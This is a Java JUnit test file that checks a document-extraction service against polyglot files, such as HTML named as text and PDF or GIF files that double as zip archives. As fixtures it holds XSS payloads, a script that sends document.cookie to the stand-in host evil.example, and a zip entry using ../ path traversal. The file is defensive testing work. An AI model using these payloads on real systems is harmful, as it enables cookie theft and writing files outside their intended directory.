package org.copse.ingest.hostile;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.copse.ingest.extract.ExtractionLimits;
import org.copse.ingest.extract.ExtractionResult;
import org.copse.ingest.extract.ForkedExtractor;
import org.copse.ingest.extract.WorkerLaunch;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Polyglot files — one file that is two formats at once, under a name that claims a third — through
 * the real extraction workers. Whatever the parser decides a file is, the outcome must be text
 * without live markup or a counted skip, within the worker's limits, with the worker still serving.
 */
class PolyglotFilesTest {
  private static ForkedExtractor extractor;

  @TempDir static Path dir;

  @BeforeAll
  static void start() {
    extractor = new ForkedExtractor(ExtractionLimits.defaults().withWorkerHeapMb(256).withEmbedded(50, 3),
        WorkerLaunch.fromCurrentJvm(), 1);
  }

  @AfterAll
  static void stop() {
    extractor.close();
  }

  @Test
  void htmlWithScriptsNamedAsPlainTextGivesTextWithoutMarkup() throws IOException {
    Path file = Files.writeString(dir.resolve("minutes.txt"), "<html><body><p>Gritting starts at dusk.</p>"
        + "<script>fetch('https://evil.example/'+document.cookie)</script>"
        + "<img src=x onerror=alert(1)><iframe src=\"javascript:alert(2)\"></iframe></body></html>");

    String text = textOf(extractor.extract(file));

    assertThat(text).doesNotContain("<script", "<img", "<iframe", "onerror=");
  }

  @Test
  void aPdfThatIsAlsoAZipArchiveIsBoundedAndTheWorkerKeepsServing() throws IOException {
    byte[] pdfHead = ("%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\n% polyglot\n").getBytes(StandardCharsets.ISO_8859_1);
    Path file = dir.resolve("report.pdf");
    Files.write(file, concat(pdfHead, zip("../../../../tmp/copse-polyglot-escaped.txt", "Escaped if you can read this.")));

    ExtractionResult result = extractor.extract(file);

    assertThat(result).isNotNull();
    assertThat(Files.exists(Path.of("/tmp/copse-polyglot-escaped.txt"))).as("nothing written outside").isFalse();
    assertThat(stillServing()).isTrue();
  }

  @Test
  void aGifThatIsAlsoAHtmlPageAndAZipIsBounded() throws IOException {
    byte[] gif = "GIF89a\u0001\u0000\u0001\u0000\u0000\u0000\u0000;<script>alert(1)</script>"
        .getBytes(StandardCharsets.ISO_8859_1);
    Path file = dir.resolve("logo.gif");
    Files.write(file, concat(gif, zip("inner.html", "<script>alert(3)</script><p>inner</p>")));

    ExtractionResult result = extractor.extract(file);

    if (result instanceof ExtractionResult.Extracted extracted) {
      assertThat(extracted.document().text()).doesNotContain("<script");
      extracted.document().parts().forEach(part -> assertThat(part.text()).doesNotContain("<script"));
    }
    assertThat(stillServing()).isTrue();
  }

  private static boolean stillServing() throws IOException {
    Path plain = Files.writeString(dir.resolve("after-" + System.nanoTime() + ".txt"), "The depot opens at six.");
    return textOf(extractor.extract(plain)).contains("The depot opens at six.");
  }

  private static String textOf(ExtractionResult result) {
    assertThat(result).isInstanceOf(ExtractionResult.Extracted.class);
    return ((ExtractionResult.Extracted) result).document().text();
  }

  private static byte[] zip(String name, String content) throws IOException {
    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
    try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
      zip.putNextEntry(new ZipEntry(name));
      zip.write(content.getBytes(StandardCharsets.UTF_8));
      zip.closeEntry();
    }
    return bytes.toByteArray();
  }

  private static byte[] concat(byte[] a, byte[] b) {
    byte[] joined = new byte[a.length + b.length];
    System.arraycopy(a, 0, joined, 0, a.length);
    System.arraycopy(b, 0, joined, a.length, b.length);
    return joined;
  }
}
